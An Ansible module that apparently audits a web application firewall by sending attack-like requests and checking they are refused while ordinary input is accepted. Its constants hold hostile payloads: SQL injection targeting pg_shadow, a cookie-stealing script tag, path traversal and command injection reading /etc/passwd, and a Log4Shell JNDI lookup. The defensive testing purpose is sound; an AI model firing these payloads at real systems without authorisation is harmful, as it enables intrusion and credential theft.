#!/usr/bin/python
# Copyright: the airworthy.stack maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

DOCUMENTATION = r"""
module: waf_audit
short_description: Examines from outside whether attacks are refused, and ordinary requests are not
version_added: "0.1.0"
author: the airworthy.stack maintainers (@airworthy)
description:
  - Proves the control C(edge.input). It asks like any client, so it belongs on the controller or another host
    (C(delegate_to)), not on the server itself.
  - Attacks, of which none would change anything if it got through, have to be refused. Requests that look odd, such as
    a sign-in with a strong password, have to be answered like plain ones.
extends_documentation_fragment:
  - airworthy.stack.edge
options:
  mode:
    description:
      - What the web application firewall is set to. V(off) makes the control not applicable; V(detect) lets attacks
        through, so the control fails.
    type: str
    choices: ["off", detect, block]
    required: true
  page:
    description: A page that everybody may see.
    type: str
    default: /
  api:
    description: An address of the API that gets attacks as JSON. Empty to send them to O(page).
    type: str
    default: ""
  sign_in:
    description: Where the application takes a sign-in as JSON; two that are wrong are sent. Empty to leave it out.
    type: str
    default: ""
  max_body_mb:
    description: The largest request body that is accepted, in MiB. A larger one is announced, but not sent.
    type: int
    default: 10
"""

EXAMPLES = r"""
- name: Attacks in requests are stopped
  airworthy.stack.waf_audit:
    domain: app.example.org
    address: 203.0.113.10
    mode: block
    api: /api/me
    sign_in: /api/auth/sign-in
  delegate_to: localhost
  register: __nginx_waf_controls
"""

RETURN = r"""
controls:
  description: The control C(edge.input), as described in docs/certificate.md.
  returned: always
  type: list
  elements: dict
"""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from ansible.module_utils.basic import AnsibleModule
from ansible_collections.airworthy.stack.plugins.module_utils.control import (
    Check,
    Control,
    judged,
    not_applicable,
    run_probes,
)
from ansible_collections.airworthy.stack.plugins.module_utils.web_client import TARGET_SPEC, Answer, Target, ask

REMEDIATION = {
    "block": "ansible-playbook site.yml --tags nginx; an ordinary request that is refused: nginx_waf_exclusions",
    "detect": "set nginx_waf_mode to block when /var/log/nginx-waf/audit.log shows no ordinary requests",
}
REFUSED = (400, 403, 405, 413, 415)

# Each only reads, should it get through. Names under .invalid lead nowhere.
SQL_INJECTION = "1' UNION SELECT usename, passwd FROM pg_shadow-- -"
IN_QUERY = {
    "SQL injection": SQL_INJECTION,
    "cross-site scripting": "<script>alert(document.cookie)</script>",
    "path traversal": "../../../../etc/passwd",
    "command injection": "; cat /etc/passwd",
}

PLAIN_PASSWORD = "airworthy"  # noqa: S105  it opens nothing
STRONG_PASSWORD = "' OR 1=1; --<b>$(id)|&& \\../{{7*7}}\"#"  # noqa: S105
NOBODY = "airworthy@example.invalid"
ORDINARY = {
    "Markdown": "# Title\n\n- *one*, **two** & `three`\n> said: it's (almost) done; see [4](#4)",
    "a web address": "https://example.org/path/page?a=1&b=two#top",
    "names in Unicode": "Siobhán O'Neill-Śmiałek, 北京大学, Иван",
}


@dataclass(frozen=True)
class Request:
    """What is sent."""

    path: str
    method: str = "GET"
    headers: Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""

    def send(self, target: Target, who: Mapping[str, str]) -> Answer:
        """From a page of the application, as far as the server can tell: nothing but the request itself is amiss."""
        headers = {"Origin": target.url(""), **who, **self.headers}
        return ask(target, self.path, method=self.method, headers=headers, body=self.body)


@dataclass(frozen=True)
class Attack:
    """A request that has to be refused."""

    name: str
    answer: Answer


@dataclass(frozen=True)
class Ordinary:
    """A request that has to be answered like a plain one to the same address."""

    name: str
    plain: Answer
    answer: Answer


def query(path: str, value: str) -> str:
    return f"{path}{'&' if '?' in path else '?'}q={quote(value, safe='')}"


def json_to(path: str, document: object) -> Request:
    return Request(path, "POST", {"Content-Type": "application/json"}, json.dumps(document).encode())


def attacks(wanted: Mapping[str, Any]) -> dict[str, Request]:
    page, api = wanted["page"], wanted["api"] or wanted["page"]
    too_large = {"Content-Length": str(wanted["max_body_mb"] * 1024 * 1024 + 1), "Content-Type": "application/json"}
    found = {f"{name} in the query": Request(query(page, value)) for name, value in IN_QUERY.items()}
    return {
        **found,
        "SQL injection in JSON": json_to(api, {"filter": {"id": SQL_INJECTION}}),
        "cross-site scripting in JSON": json_to(api, {"name": IN_QUERY["cross-site scripting"]}),
        "look-up by a log (Log4Shell)": Request(page, headers={"X-Api-Version": "${jndi:ldap://airworthy.invalid/a}"}),
        "scanner": Request(page, headers={"User-Agent": "sqlmap/1.7 (https://sqlmap.org)"}),
        "method TRACE": Request(page, "TRACE"),
        "method PROPFIND": Request(page, "PROPFIND"),
        "content type that nobody reads": Request(api, "POST", {"Content-Type": "application/x-airworthy"}, b"x"),
        "oversized body": Request(api, "POST", too_large),
    }


def observe(target: Target, wanted: Mapping[str, Any]) -> tuple[list[Attack], list[Ordinary]]:
    page, who = wanted["page"], target.new_client()
    hostile = [Attack(name, request.send(target, who)) for name, request in attacks(wanted).items()]
    plain = Request(query(page, "airworthy")).send(target, who)
    ordinary = [
        Ordinary(name, plain, Request(query(page, value)).send(target, who)) for name, value in ORDINARY.items()
    ]
    if wanted["sign_in"]:
        wrong, strong = (
            json_to(wanted["sign_in"], {"email": NOBODY, "password": password}).send(target, who)
            for password in (PLAIN_PASSWORD, STRONG_PASSWORD)
        )
        ordinary.append(Ordinary("sign-in with a strong password", wrong, strong))
    return hostile, ordinary


def served(answer: Answer) -> bool:
    """Whether the application itself has answered, as far as a client can tell."""
    return 200 <= answer.status < 500 and answer.status not in (403, 413, 429)


def judge(seen: tuple[list[Attack], list[Ordinary]], wanted: Mapping[str, Any], command: str) -> Control:
    hostile, ordinary = seen
    checks = [
        Check(attack.name, "refused", f"answered {attack.answer}", attack.answer.status in REFUSED)
        for attack in hostile
    ]
    for request in ordinary:
        expected = f"answered {request.plain}" if served(request.plain) else "answered by the application"
        observed = f"answered {request.answer}, a plain one {request.plain}"
        ok = served(request.plain) and request.answer.status == request.plain.status
        checks.append(Check(request.name, expected, observed, ok))
    return judged("edge.input", "quick", checks, command=command, remediation=REMEDIATION[wanted["mode"]])


def examine(target: Target, wanted: Mapping[str, Any]) -> Control:
    if wanted["mode"] == "off":
        reason = "no web application firewall here (nginx_waf_mode is off): the application alone judges its input"
        return not_applicable("edge.input", "quick", reason)
    return judge(observe(target, wanted), wanted, target.curl(query(wanted["page"], SQL_INJECTION)))


def main() -> None:
    module = AnsibleModule(
        argument_spec={
            **TARGET_SPEC,
            "mode": {"type": "str", "choices": ["off", "detect", "block"], "required": True},
            "page": {"type": "str", "default": "/"},
            "api": {"type": "str", "default": ""},
            "sign_in": {"type": "str", "default": ""},
            "max_body_mb": {"type": "int", "default": 10},
        },
        supports_check_mode=True,
    )
    target = Target.of(module.params)
    controls = run_probes("quick", {"edge.input": lambda: examine(target, module.params)})
    module.exit_json(changed=False, controls=controls)


if __name__ == "__main__":
    main()
